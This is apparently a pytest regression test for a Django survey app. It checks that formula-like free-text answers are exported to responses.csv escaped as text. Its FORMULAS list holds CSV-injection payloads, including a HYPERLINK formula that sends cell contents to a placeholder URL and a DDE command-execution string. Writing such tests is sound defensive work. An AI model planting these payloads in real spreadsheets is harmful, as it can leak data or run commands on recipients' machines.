"""Free-text answers that look like spreadsheet formulas reach responses.csv as text."""

import csv
import io
import zipfile

import pytest
from django.test import Client

from core.models import Job, Status
from core.services import job_run
from survey_app.services.participants import survey_submit
from tests.survey_app.factories import StudyFactory, answer_pages, enrol

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://x"&B2,"y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_formula_answers_are_exported_as_text(researcher, django_capture_on_commit_callbacks):
    study = StudyFactory()
    for formula in FORMULAS:
        participant = enrol(study).participant
        answer_pages(participant, overrides={"comments": formula})
        survey_submit(participant=participant)
    client = Client()
    client.force_login(researcher)
    with django_capture_on_commit_callbacks(execute=False):
        client.post(f"/studies/{study.slug}/export/", {"include_free_text": "on"})
    job = Job.objects.get(kind="survey_export")
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == Status.SUCCEEDED, job.error
    with zipfile.ZipFile(job.output.open("rb")) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("responses.csv").decode())))
    assert sorted(row["comments"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert all(row["duration_min"][0].isdigit() for row in rows)
